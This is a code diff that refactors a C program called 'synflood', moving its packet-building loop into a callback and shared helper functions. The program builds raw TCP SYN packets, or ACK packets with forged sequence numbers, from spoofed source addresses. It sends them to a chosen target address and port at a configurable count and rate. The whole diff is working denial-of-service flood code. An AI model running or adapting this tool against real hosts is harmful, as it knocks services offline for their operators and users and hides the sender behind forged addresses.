@@ -35,24 +35,58 @@
 
 #include "pktlib.h"
 
-#define BATCH SEND_BATCH_MAX
+struct syn_flood {
+	uint8_t smac[6], dmac[6];
+	struct in6_addr base6, dst6;
+	struct in_addr base4, dst4;
+	unsigned int bits;
+	uint32_t mask, rnd;
+	uint16_t port;
+	int v6, acks;
+};
+
+static size_t syn_frame(void *ctx, unsigned long k, uint8_t *buf)
+{
+	struct syn_flood *fl = ctx;
+	struct tcp_spec t = {
+		.flags = TH_SYN, .seq = (uint32_t)(k * 2654435761u),
+		.ack = 0, .win = 64240, .doff = 5, .dport = fl->port,
+	};
+
+	if (fl->acks) {
+		t.flags = TH_ACK;
+		fl->rnd ^= fl->rnd << 13, fl->rnd ^= fl->rnd >> 17, fl->rnd ^= fl->rnd << 5;
+		t.seq = fl->rnd;
+		fl->rnd ^= fl->rnd << 13, fl->rnd ^= fl->rnd >> 17, fl->rnd ^= fl->rnd << 5;
+		t.ack = fl->rnd;
+	}
+	if (fl->v6) {
+		struct in6_addr src = fl->base6;
+		uint32_t low;
+
+		memcpy(&low, &src.s6_addr[12], 4);
+		low = htonl(ntohl(low) + (uint32_t)k);
+		memcpy(&src.s6_addr[12], &low, 4);
+		t.sport = 1024 + (uint16_t)(k % 60000);
+		return build_tcp6(buf, fl->smac, fl->dmac, &src, &fl->dst6, &t);
+	} else {
+		struct in_addr src = fl->base4;
+
+		src.s_addr = htonl((ntohl(src.s_addr) & ~fl->mask) | (k & fl->mask));
+		t.sport = 1024 + (uint16_t)((k >> fl->bits) % 64512);
+		return build_tcp4(buf, fl->smac, fl->dmac, src, fl->dst4, &t);
+	}
+}
 
 int main(int argc, char **argv)
 {
-	struct frame frames[BATCH];
-	struct sockaddr_ll sll;
-	struct in6_addr base6, dst6;
-	struct in_addr base4, dst4;
-	unsigned long count, sent = 0;
-	uint8_t smac[6], dmac[6];
-	double start, limit, now;
-	uint16_t port;
-	unsigned int bits = 8;
-	uint32_t mask, rnd;
-	int fd, v6, acks = 0;
+	struct syn_flood fl = { .bits = 8 };
+	unsigned long count;
+	double limit;
+	int fd, rc;
 
 	if (argc > 1 && !strcmp(argv[1], "-a")) {
-		acks = 1;
+		fl.acks = 1;
 		argv++;
 		argc--;
 	}
@@ -61,83 +95,30 @@ int main(int argc, char **argv)
 		return 1;
 	}
 	/* xorshift32: the forged numbers need only look random */
-	rnd = ((uint32_t)time(NULL) ^ (uint32_t)getpid() << 16) | 1;
+	fl.rnd = ((uint32_t)time(NULL) ^ (uint32_t)getpid() << 16) | 1;
 	if (argc == 9)
-		bits = (unsigned int)atoi(argv[8]);
-	if (bits < 1 || bits > 16) {
+		fl.bits = (unsigned int)atoi(argv[8]);
+	if (fl.bits < 1 || fl.bits > 16) {
 		fprintf(stderr, "synflood: SRC-BITS must be 1 to 16\n");
 		return 1;
 	}
-	mask = (1u << bits) - 1;
-	v6 = strchr(argv[3], ':') != NULL;
-	if (v6 ? inet_pton(AF_INET6, argv[3], &base6) != 1 ||
-		 inet_pton(AF_INET6, argv[4], &dst6) != 1 :
-		 inet_pton(AF_INET, argv[3], &base4) != 1 ||
-		 inet_pton(AF_INET, argv[4], &dst4) != 1) {
+	fl.mask = (1u << fl.bits) - 1;
+	fl.v6 = strchr(argv[3], ':') != NULL;
+	if (fl.v6 ? inet_pton(AF_INET6, argv[3], &fl.base6) != 1 ||
+		    inet_pton(AF_INET6, argv[4], &fl.dst6) != 1 :
+		    inet_pton(AF_INET, argv[3], &fl.base4) != 1 ||
+		    inet_pton(AF_INET, argv[4], &fl.dst4) != 1) {
 		fprintf(stderr, "synflood: bad address\n");
 		return 1;
 	}
-	if (parse_mac(argv[2], dmac)) {
-		fprintf(stderr, "synflood: bad MAC %s\n", argv[2]);
-		return 1;
-	}
-	port = (uint16_t)atoi(argv[5]);
+	fl.port = (uint16_t)atoi(argv[5]);
 	count = strtoul(argv[6], NULL, 0);
 	limit = atof(argv[7]);
 
-	fd = packet_socket(argv[1], &sll, smac);
+	fd = flood_open("synflood", argv[1], argv[2], fl.smac, fl.dmac);
 	if (fd < 0)
 		return 1;
-
-	start = now_s();
-	while (sent < count) {
-		unsigned int n = 0;
-
-		for (; n < BATCH && sent + n < count; n++) {
-			unsigned long k = sent + n;
-			struct frame *f = &frames[n];
-			struct tcp_spec t = {
-				.flags = TH_SYN, .seq = (uint32_t)(k * 2654435761u),
-				.ack = 0, .win = 64240, .doff = 5,
-			};
-
-			if (acks) {
-				t.flags = TH_ACK;
-				rnd ^= rnd << 13, rnd ^= rnd >> 17, rnd ^= rnd << 5;
-				t.seq = rnd;
-				rnd ^= rnd << 13, rnd ^= rnd >> 17, rnd ^= rnd << 5;
-				t.ack = rnd;
-			}
-
-			if (v6) {
-				struct in6_addr src = base6;
-				uint32_t low;
-
-				memcpy(&low, &src.s6_addr[12], 4);
-				low = htonl(ntohl(low) + (uint32_t)k);
-				memcpy(&src.s6_addr[12], &low, 4);
-				t.sport = 1024 + (uint16_t)(k % 60000);
-				t.dport = port;
-				f->len = build_tcp6(f->buf, smac, dmac, &src, &dst6, &t);
-			} else {
-				struct in_addr src = base4;
-
-				src.s_addr = htonl((ntohl(src.s_addr) & ~mask) | (k & mask));
-				t.sport = 1024 + (uint16_t)((k >> bits) % 64512);
-				t.dport = port;
-				f->len = build_tcp4(f->buf, smac, dmac, src, dst4, &t);
-			}
-		}
-		if (send_frames(fd, frames, n, "synflood"))
-			return 1;
-		sent += n;
-		now = now_s();
-		if (now - start > limit)
-			break;
-	}
-	now = now_s() - start;
-	printf("sent %lu in %.1f s (%.0f pkt/s)\n", sent, now,
-	       now > 0 ? sent / now : 0.0);
+	rc = send_flood(fd, "synflood", count, limit, syn_frame, &fl);
 	close(fd);
-	return sent == count ? 0 : 3;
+	return rc;
 }
